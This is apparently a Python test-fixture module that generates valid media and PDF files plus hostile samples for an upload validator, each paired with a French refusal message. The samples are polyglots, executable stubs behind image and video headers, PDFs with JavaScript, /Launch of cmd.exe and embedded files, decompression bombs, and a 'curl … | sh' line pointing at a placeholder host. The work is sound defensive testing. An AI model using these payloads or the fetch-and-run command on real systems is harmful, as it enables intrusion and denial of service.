"""Files built in test code for the upload checks: valid PNG, JPEG, MP4, WebM and PDF, and the
hostile files (polyglots, executables behind media headers, PDFs with active content, bombs,
broken containers) with the French message each must be refused with."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + b"\x02\x00\x3e\x00" + b"\0" * 100
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 44 + b"PE\0\0" + b"\0" * 60
SHELL = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def png(width: int = 32, height: int = 16, text: bytes = b"") -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", (width, height), (0, 120, 200))
    if text:
        from PIL.PngImagePlugin import PngInfo

        info = PngInfo()
        info.add_text("Comment", text.decode("latin-1"))
        image.save(out, "PNG", pnginfo=info)
    else:
        image.save(out, "PNG")
    return out.getvalue()


def jpeg(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 80, 10)).save(out, "JPEG", quality=80)
    return out.getvalue()


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.sh", SHELL)
    return out.getvalue()


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4() -> bytes:
    ftyp = box(b"ftyp", b"isom\0\0\x02\0isomiso2avc1mp41")
    moov = box(b"moov", box(b"mvhd", b"\0" * 100) + box(b"trak", box(b"tkhd", b"\0" * 84)))
    return ftyp + moov + box(b"mdat", b"\0\0\0\x10" + b"\x42" * 200)


def ebml(ident: bytes, payload: bytes) -> bytes:
    """An EBML element with an 8-byte size."""
    return ident + b"\x01" + len(payload).to_bytes(7, "big") + payload


def webm(doctype: bytes = b"webm", extra: bytes = b"") -> bytes:
    header = ebml(b"\x1a\x45\xdf\xa3", ebml(b"\x42\x86", b"\x01") + ebml(b"\x42\x82", doctype))
    info = ebml(b"\x15\x49\xa9\x66", ebml(b"\x2a\xd7\xb1", b"\x0f\x42\x40"))
    tracks = ebml(b"\x16\x54\xae\x6b", ebml(b"\xae", ebml(b"\xd7", b"\x01") + ebml(b"\x86", b"V_VP8")))
    cluster = ebml(
        b"\x1f\x43\xb6\x75", ebml(b"\xe7", b"\x00") + ebml(b"\xa3", b"\x81\x00\x00\x80" + b"\x10" * 64)
    )
    return header + ebml(b"\x18\x53\x80\x67", info + tracks + cluster + extra)


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Dossier"})
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf() -> bytes:
    return _bytes(_writer())


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
    )
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def pdf_with(what: str) -> bytes:
    writer = _writer()
    root, page = writer._root_object, writer.pages[0]
    if what == "openaction":
        root[NameObject("/OpenAction")] = writer._add_object(
            _action("/JavaScript", JS=TextStringObject("app.alert(1)"))
        )
    elif what == "aa":
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("this.exportDataObject()"))}
        )
    elif what == "launch":
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(
                    [NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)]
                ),
                NameObject("/A"): _action("/Launch", F=TextStringObject("cmd.exe")),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    elif what == "embedded":
        writer.add_attachment("facture.exe", PE)
    elif what == "attachment":
        stream = DecodedStreamObject()
        stream.set_data(ELF)
        stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): ArrayObject(
                    [NumberObject(0), NumberObject(0), NumberObject(20), NumberObject(20)]
                ),
                NameObject("/FS"): DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Filespec"),
                        NameObject("/F"): TextStringObject("outil"),
                        NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)}),
                    }
                ),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    elif what == "xfa":
        xfa = DecodedStreamObject()
        xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
        root[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
        )
    return _bytes(writer)


def png_bomb() -> bytes:
    """A 1-bit 10,000 × 10,000 PNG: 100 million pixels in about 12 KB."""
    width = height = 10_000
    row = b"\0" + b"\0" * (width // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return (
            struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def docx_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document xmlns:w='x'/>")
        archive.writestr("word/media/padding.bin", b"\0" * (60 * 1024 * 1024))
    return out.getvalue()


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str
    data: bytes
    message: str
    content_type: str = "application/octet-stream"
    clamd: str = ""  # "fake": a fake daemon that finds EICAR; "down": configured but unreachable


@cache
def hostile_files() -> tuple[Hostile, ...]:
    ftyp = box(b"ftyp", b"isom\0\0\x02\0isommp41")
    valid_mp4 = mp4()
    return (
        Hostile(
            "gif-js-polyglot",
            "image.gif",
            b"GIF89a/*\x0a\x00\x0a\x00\x00\x00\x00*/=alert(1);//;",
            "n'est pas accepté",
        ),
        Hostile("jpeg-zip-polyglot", "photo.jpg", jpeg() + zip_archive(), "archive ZIP cachée"),
        Hostile("png-zip-polyglot", "capture.png", png() + zip_archive(), "archive ZIP cachée"),
        Hostile("pdf-zip-polyglot", "dossier.pdf", pdf() + zip_archive(), "archive ZIP cachée"),
        Hostile(
            "pdf-html-polyglot", "dossier.pdf", pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1), "code HTML"
        ),
        Hostile("pdf-trailing-script", "dossier.pdf", pdf() + b"\n" + HTML, "après sa fin"),
        Hostile("elf-behind-jpeg", "photo.jpg", b"\xff\xd8\xff\xe0" + ELF, "endommagée ou incomplète"),
        Hostile("pe-behind-png", "capture.png", b"\x89PNG\r\n\x1a\n" + PE, "endommagée ou incomplète"),
        Hostile("shell-after-png", "capture.png", png() + SHELL, "données cachées après sa fin"),
        Hostile("shell-behind-ftyp", "video.mp4", ftyp + SHELL, "vidéo est endommagée"),
        Hostile("html-behind-ftyp", "video.mp4", ftyp + HTML, "vidéo est endommagée"),
        Hostile(
            "pe-in-mdat-without-moov",
            "video.mp4",
            ftyp + struct.pack(">I", 0) + b"mdat" + PE,
            "« moov » absent",
        ),
        Hostile("elf-behind-webm", "video.webm", b"\x1a\x45\xdf\xa3" + ELF, "vidéo est endommagée"),
        Hostile(
            "exe-attached-in-webm", "video.webm", webm(extra=ebml(b"\x19\x41\xa4\x69", PE)), "fichiers joints"
        ),
        Hostile(
            "webm-broken-ebml",
            "video.webm",
            b"\x1a\x45\xdf\xa3\x00" + b"\xff" * 40,
            "structure EBML invalide",
        ),
        Hostile("webm-unknown-doctype", "video.webm", webm(doctype=b"html"), "type de document EBML inconnu"),
        Hostile("mp4-box-past-end", "video.mp4", valid_mp4[:-50], "dépasse la fin du fichier"),
        Hostile("mp4-trailing-garbage", "video.mp4", valid_mp4 + b"\x01\x02", "données en trop"),
        Hostile("pdf-javascript-openaction", "dossier.pdf", pdf_with("openaction"), "JavaScript"),
        Hostile("pdf-additional-action", "dossier.pdf", pdf_with("aa"), "/AA"),
        Hostile("pdf-launch", "dossier.pdf", pdf_with("launch"), "/Launch"),
        Hostile("pdf-embedded-file", "dossier.pdf", pdf_with("embedded"), "fichiers incorporés"),
        Hostile("pdf-file-attachment-annotation", "dossier.pdf", pdf_with("attachment"), "/FileAttachment"),
        Hostile("pdf-xfa", "dossier.pdf", pdf_with("xfa"), "XFA"),
        Hostile("png-decompression-bomb", "schema.png", png_bomb(), "trop grande une fois décompressée"),
        Hostile("docx-zip-bomb", "dossier.docx", docx_bomb(), "archive anormale"),
        Hostile("truncated-jpeg", "photo.jpg", jpeg(640, 480)[:-400], "endommagée ou incomplète"),
        Hostile("png-named-jpg", "photo.jpg", png(), "ne correspond pas à son extension"),
        Hostile("pdf-named-mp4", "video.mp4", pdf(), "ne correspond pas à son extension"),
        Hostile("pdf-declared-html", "dossier.pdf", pdf(), "type déclaré", content_type="text/html"),
        Hostile(
            "svg-with-script",
            "dessin.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            "n'est pas accepté",
        ),
        Hostile("html-named-pdf", "dossier.pdf", HTML, "n'est pas accepté"),
        Hostile("eicar-found-by-clamd", "capture.png", png(text=EICAR), "antivirus a détecté", clamd="fake"),
        Hostile("clamd-unreachable", "dossier.pdf", pdf(), "momentanément indisponible", clamd="down"),
    )


def valid_files() -> list[tuple[str, bytes, str]]:
    return [
        ("capture.png", png(), "image/png"),
        ("photo.jpg", jpeg(), "image/jpeg"),
        ("enregistrement.mp4", mp4(), "video/mp4"),
        ("enregistrement.webm", webm(), "video/webm"),
        ("dossier.pdf", pdf(), "application/pdf"),
    ]
